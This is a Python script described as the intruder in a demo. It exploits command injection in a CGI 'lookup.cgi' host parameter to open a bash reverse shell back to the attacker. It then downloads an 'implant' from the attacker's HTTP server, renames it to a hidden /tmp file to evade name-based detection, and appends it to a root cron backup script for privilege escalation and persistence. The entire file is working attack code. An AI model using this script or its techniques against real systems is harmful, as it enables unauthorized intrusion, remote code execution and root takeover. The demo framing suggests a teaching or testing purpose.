# SPDX-License-Identifier: MIT
"""The demo's intruder: exploits the script, catches the shell that comes back, types commands.

usage: attack.py OWN_ADDRESS VICTIM_ADDRESS

Runs on the attacker's machine. Prints what was typed and what came back. Exit status 0 when root's
job has done what it was altered to do.
"""
import socket
import subprocess
import sys
import time
import urllib.parse

SHELL_PORT = 4444
TOOL_PORT = 8000
DEADLINE_SECONDS = 100
STEP_SECONDS = 0.3  # people type
DONE = "-- done --"


class Shell:
    """The victim's shell, at the end of a connection that the victim opened."""

    def __init__(self, connection, deadline):
        self.connection = connection
        self.deadline = deadline
        self.pending = b""

    def run(self, command):
        """Type one command, wait until the shell has finished it, print both."""
        print(f"$ {command}", flush=True)
        self.connection.sendall(f"{command}\necho '{DONE}'\n".encode())
        for line in iter(self.read_line, DONE):
            print(f"  {line}", flush=True)
        time.sleep(STEP_SECONDS)

    def read_line(self):
        while b"\n" not in self.pending:
            self.connection.settimeout(max(0.1, self.deadline - time.monotonic()))
            received = self.connection.recv(4096)
            if not received:
                raise ConnectionError("the shell went away")
            self.pending += received
        line, self.pending = self.pending.split(b"\n", 1)
        return line.decode(errors="replace")


def send_exploit(own, victim):
    """One request whose host name carries a command: a shell that calls back."""
    callback = f"bash -c 'exec bash >& /dev/tcp/{own}/{SHELL_PORT} 0>&1' &"
    value = urllib.parse.quote(f"localhost; {callback}", safe="")
    url = f"http://{victim}/cgi-bin/lookup.cgi?host={value}"
    print(f"curl {url}", flush=True)
    return subprocess.Popen(["curl", "-q", "-s", "-o", "/dev/null", "--max-time", "10", url],
                            stdin=subprocess.DEVNULL)


def serve_tools(own):
    return subprocess.Popen([sys.executable, "-m", "http.server", str(TOOL_PORT), "--bind", own,
                             "--directory", "/srv/tools"],
                            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)


def break_in(shell, own):
    shell.run("id; uname -n")
    shell.run("cat /etc/cron.d/backup")
    shell.run("ls -l /usr/local/sbin")
    # The tool's name changes on its way, so that no list of names finds it.
    shell.run(f"curl -q -sS --retry 5 --retry-connrefused -o /tmp/update.bin "
              f"http://{own}:{TOOL_PORT}/implant")
    shell.run("mv /tmp/update.bin /tmp/sess_8c1f")
    shell.run("mv /tmp/sess_8c1f /tmp/.font-cache")
    shell.run("chmod 755 /tmp/.font-cache")
    shell.run("echo /tmp/.font-cache >> /usr/local/sbin/backup.sh")
    shell.run("until grep -q ^toor: /etc/passwd; do sleep 5; done")
    shell.run("grep toor /etc/passwd")


def main():
    own, victim = sys.argv[1:3]
    deadline = time.monotonic() + DEADLINE_SECONDS
    tools = serve_tools(own)
    exploit = None
    try:
        with socket.create_server((own, SHELL_PORT)) as listener:
            exploit = send_exploit(own, victim)
            listener.settimeout(15)
            connection, _ = listener.accept()
        with connection:
            break_in(Shell(connection, deadline), own)
    finally:
        tools.terminate()
        tools.wait()
        if exploit is not None:
            exploit.wait()


if __name__ == "__main__":
    try:
        main()
    except (OSError, ConnectionError) as error:
        sys.exit(f"attack: {error}")
